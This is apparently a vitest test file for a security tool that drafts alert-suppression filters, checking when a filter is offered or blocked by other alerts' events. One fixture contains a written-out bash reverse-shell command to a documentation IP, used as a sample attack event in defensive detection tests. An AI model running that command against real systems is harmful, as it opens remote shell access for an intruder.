import { expect, test } from "vitest";
import type { EventRecord } from "../../src/event-fields/event-record.ts";
import { createChoiceFold } from "../../src/suppressions/choice.ts";
import { type Draft, draftFrom } from "../../src/suppressions/draft.ts";
import { createLadder } from "../../src/suppressions/ladder.ts";
import { createTrial } from "../../src/suppressions/trial.ts";
import { finish } from "../../src/digest/steps.ts";
import { parseFilter } from "../../src/rules/parse-filter.ts";
import { runDraft } from "./run-draft.ts";

const borg = {
  event_type: "file",
  type: "open",
  user: "backup",
  exe: "/usr/local/bin/borg",
  arguments: "borg backup",
};
const shadow = { _id: "shadow", ...borg, filename: "/etc/shadow" };
const hosts = { _id: "hosts", ...borg, filename: "/etc/hosts" };
const shell = {
  _id: "shell",
  event_type: "audit",
  type: "start",
  user: "backup",
  exe: "/bin/bash",
  arguments: "bash -i >& /dev/tcp/198.51.100.4/443 0>&1",
};

const select = (): boolean => true;

test("a filter that misses a chosen event is not offered", () => {
  const fold = createChoiceFold({ select, fields: ["user", "exe"] });
  for (const event of [hosts, shadow]) fold.add(event, 0);
  const choice = finish(fold.endInSteps());
  const ladder = createLadder([
    { field: "user", filter: parseFilter('user = "backup"') },
    { field: "filename", filter: parseFilter('filename = "/etc/hosts"') },
  ]);
  const trial = createTrial({ alertId: "a", ladder, choice, select, isOwn: true, fields: [] });
  for (const event of [hosts, shadow]) trial.add(event);

  expect(draftFrom({ ladder, choice, own: trial.end(), others: [], threshold: 1 })).toEqual({
    kind: "unproven",
  });
});

test("an attack of the same alert that is not chosen blocks, and the field that tells it apart is named", () => {
  const blocked = runDraft({
    own: [
      { _id: "mine", event_type: "audit", type: "start", user: "backup", src_ip: "10.0.0.1" },
      { ...shell, src_ip: "10.0.0.2" },
    ],
    selection: { eventIds: ["mine"] },
  }).draft;
  expect(blocked).toMatchObject({
    kind: "blocked",
    text: 'user = "backup" and type = "start"',
    block: {
      count: 1,
      blockers: [{ eventId: "shell", label: { technique: expect.stringMatching(/^T1/) } }],
      apart: { field: "src_ip", use: "ask", chosen: ["10.0.0.1"], blocking: ["10.0.0.2"] },
    },
  });
});

test("the field that tells them apart, once asked for, makes the draft safe", () => {
  const { draft } = runDraft({
    own: [
      { _id: "mine", event_type: "audit", type: "start", user: "backup", src_ip: "10.0.0.1" },
      { ...shell, src_ip: "10.0.0.2" },
    ],
    selection: { eventIds: ["mine"] },
    allow: ["src_ip"],
  });
  expect(draft).toMatchObject({
    kind: "offered",
    filters: [{ text: 'user = "backup" and type = "start" and src_ip = "10.0.0.1"' }],
    broader: { count: 1 },
  });
});

test("another act in another alert blocks, the very same act does not", () => {
  const same = { ...hosts, _id: "again" };
  const other = { ...hosts, _id: "other", filename: "/etc/resolv.conf" };
  const { draft } = runDraft({
    own: [hosts],
    others: [[same], [other]],
    selection: { eventIds: ["hosts"] },
  });

  expect(draft).toMatchObject({ kind: "offered", alerts: 3 });
  if (draft.kind !== "offered") return;
  expect(draft.filters.map(({ text }) => text.includes('filename = "/etc/hosts"'))).toEqual(
    draft.filters.map(() => true),
  );
  expect(draft.filters[0]?.effect).toMatchObject({ elsewhere: 1, elsewhereAlerts: 1, unfired: 2 });
  expect(draft.broader).toMatchObject({ blockers: [{ eventId: "other", label: undefined }] });
});

test("of a notable act that was chosen by name, the same from another machine still blocks", () => {
  const login = {
    event_type: "audit",
    type: "accept",
    user: "root",
    exe: "/tmp/.x/run",
    arguments: "run",
  };
  const mine = { _id: "mine", ...login, src_ip: "198.51.100.4" };
  const theirs = { _id: "theirs", ...login, src_ip: "203.0.113.9" };
  const again = { ...mine, _id: "again" };
  const draftWith = (other: object) =>
    runDraft({ own: [mine], others: [[{ ...other }]], selection: { eventIds: ["mine"] } });

  expect(draftWith(again).choice.shapes.values().next().value?.label).toBeDefined();
  expect(draftWith(again).draft).toMatchObject({ kind: "offered" });
  expect(draftWith(theirs).draft).toMatchObject({
    kind: "blocked",
    block: { apart: { field: "src_ip" } },
  });
});

const login = { event_type: "audit", type: "login", user: "mia", exe: "/usr/sbin/sshd" };
const loginFrom = (src_ip: string) => ({ _id: src_ip, ...login, src_ip });
const connectTo = (dst_ip: string) => ({ ...loginFrom(""), _id: dst_ip, type: "connect", dst_ip });

function draftBeside(own: readonly EventRecord[], theirs: EventRecord): Draft {
  return runDraft({ own, others: [[theirs]], selection: { where: select } }).draft;
}

test("a login of the same user from another machine blocks, a connection to another does not", () => {
  const mine = [loginFrom("192.0.2.10")];

  expect(draftBeside(mine, loginFrom("192.0.2.10"))).toMatchObject({ kind: "offered" });
  expect(draftBeside(mine, loginFrom("203.0.113.9"))).toMatchObject({
    kind: "blocked",
    block: {
      blockers: [{ label: undefined, isFromElsewhere: true }],
      apart: { field: "src_ip", use: "ask", chosen: ["192.0.2.10"], blocking: ["203.0.113.9"] },
    },
  });
  expect(draftBeside([connectTo("192.0.2.10")], connectTo("192.0.2.11"))).toMatchObject({
    kind: "offered",
  });
});

test("more addresses than a filter lists are chosen fewer at a time, not asked for again", () => {
  const own = [1, 2, 3, 4, 5].map((host) => loginFrom(`192.0.${String(host)}.7`));

  expect(draftBeside(own, loginFrom("192.0.9.7"))).toMatchObject({
    block: { apart: { field: "src_ip", use: "choose-fewer" } },
  });
});

test("an alert still fires where enough events are left", () => {
  const own = [
    hosts,
    ...[1, 2, 3].map((index) =>
      Object.assign({}, hosts, { _id: `n${String(index)}`, user: "app", exe: "/bin/x" }),
    ),
  ];
  const unfired = (threshold: number): number | undefined => {
    const { draft } = runDraft({ own, selection: { eventIds: ["hosts"] }, threshold });
    return draft.kind === "offered" ? draft.filters[0]?.effect.unfired : undefined;
  };
  expect(unfired(3)).toBe(0);
  expect(unfired(4)).toBe(1);
});
